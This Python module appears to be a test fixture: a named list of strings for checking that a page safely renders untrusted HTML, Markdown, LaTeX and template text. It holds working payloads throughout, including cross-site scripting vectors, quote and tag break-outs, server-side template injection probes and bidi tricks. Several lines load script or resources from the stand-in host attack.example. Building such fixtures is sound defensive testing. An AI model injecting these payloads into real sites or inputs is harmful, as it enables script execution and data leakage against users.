"""Strings that would do something in a page that lets them: where they run, they call alert or ask `attack.example`."""

import base64

_URL = "http://attack.example/"
_ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()

STRINGS: dict[str, str] = {
    # HTML
    "script": "<script>alert(1)</script> run",
    "script from elsewhere": f"<script src={_URL}x.js></script> load",
    "image that fails": "<img src=x onerror=alert(1)> pic",
    "image from elsewhere": f"<img src='{_URL}x.png'> pic",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg> draw",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "frame": f"<iframe srcdoc='<script>parent.alert(1)</script>' src={_URL}></iframe> frame",
    "object": f"<object data={_URL}x></object><embed src={_URL}y> embed",
    "style": f"<style>*{{background:url({_URL}x)}}</style> paint",
    "link": f"<link rel=stylesheet href={_URL}x.css> sheet",
    "base": f"<base href={_URL}> base",
    "meta": f"<meta http-equiv=refresh content='0;url={_URL}'> go",
    "form": f"<form action={_URL}><input name=q autofocus onfocus=alert(1)></form> send",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details> fold",
    "media": f"<video src={_URL}v autoplay onloadstart=alert(1)></video><audio src=x onerror=alert(1)></audio> play",
    "template element": "<template><img src=x onerror=alert(1)></template><slot> shadow",
    "comment": "<!--><img src=x onerror=alert(1)>--> comment",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]> data",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'> off",
    # Breaking out
    "double quote": '" onmouseover="alert(1)" autofocus onfocus="alert(1) break',
    "single quote": "' onmouseover='alert(1)' autofocus onfocus='alert(1) break",
    "backtick": "`onmouseover=alert(1)` break",
    "end of ours": "</span></blockquote></article></section></div><img src=x onerror=alert(1)> out",
    "end of script": "</script><script>alert(1)</script> out",
    "end of title": "</title></textarea></style><script>alert(1)</script> out",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62; shown",
    "half an entity": "&lt;script&gt &#x3c;script &#0000060script & &amp &notit; shown",
    "unclosed": "<img src=x onerror=alert(1) open",
    "overlong tag": "<" + "a" * 3_000 + " onclick=alert(1)> tag",
    # Addresses
    "javascript": "javascript:alert(1) link",
    "javascript with spaces": " java\tscript:alert(1) link",
    "anchor": f"<a href=javascript:alert(1)>x</a> <a href={_URL} ping={_URL}>y</a> link",
    "data": f"data:text/html;base64,{_ENCODED} link",
    "citation of ours": "#cite:000000000000:0:1 <a href='#cite:000000000000:0:1' data-answer='0:1'>x</a> link",
    # Markdown
    "markdown image": f"![x]({_URL}x.png) pic",
    "markdown link": f"[x](javascript:alert(1)) [y]({_URL}) <{_URL}> link",
    "markdown reference": f"![x][1]\n\n[1]: {_URL}x.png\n\nref",
    "markdown code": "```html\n<script>alert(1)</script>\n``` `x` code",
    "markdown heading": "# Title\n\n---\n\n* a\n\n> **quote** ~~gone~~ | table | head",
    # LaTeX
    "latex link": r"$$\href{javascript:alert(1)}{x}$$ \(\url{http://attack.example}\) math",
    "latex html": r"$\htmlData{x=1}{\includegraphics{http://attack.example/x.png}}$ \[x^2\] math",
    # Templates
    "template literal": "${alert(1)} ${1+1} `${alert(1)}` sum",
    "template literal, whole": "`;alert(1);` ${window.hit=1} \\` \\${1} sum",
    "handlebars": "{{1+1}} {{value}} {{{value}}} {{#each value}}x{{/each}} sum",
    "handlebars prototype": "{{#with this as |o|}}{{lookup o 'constructor'}}{{/with}} {{constructor.constructor 'x'}}",
    "angular": "{{constructor.constructor('alert(1)')()}} <div ng-app>{{x}}</div> sum",
    "jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} {{config}} sum",
    "python format": "{0.__class__} %s %(x)s {message} {name} {nonce} sum",
    "gradio children": "@children @children sum",
    "server side": "<!--#exec cmd='ls'--> <% alert(1) %> <?php echo 1 ?> sum",
    # Characters
    "bidi override": "safe \u202etxt.exe\u202c and \u2066isolated\u2069 \u202b right",
    "bidi without end": "\u202e\u202e\u2067 backwards",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 <b>world</b>",
    "null": "nul\0l <scr\0ipt>alert(1)</scr\0ipt> byte",
    "controls": "bell\a esc\x1b[31mred\x1b[0m del\x7f next\x85line shown",
    "separators": "line\u2028sep\u2029par\u00a0nb\u200bzw\ufeffbom shown",
    "line ends": "a\r\nb\rc\nd ends",
    "zalgo": "Z" + "\u0301\u0322\u0353" * 60 + " stacked",
    "emoji": "👩🏽\u200d🚀🏳️\u200d🌈 e\u0301 \U0001d518 family",
    "homoglyph tag": "＜script＞alert(1)＜/script＞ \u2039img\u203a wide",
    "lone marks": "\u0301\u0308\ufe0f\u200d start",
    "script in another letter": "<\u017fcript>alert(1)</\u017fcript> <\u0130mg src=x onerror=alert(1)> fold",
    "a megabyte": "x" * 1_000_000,
}
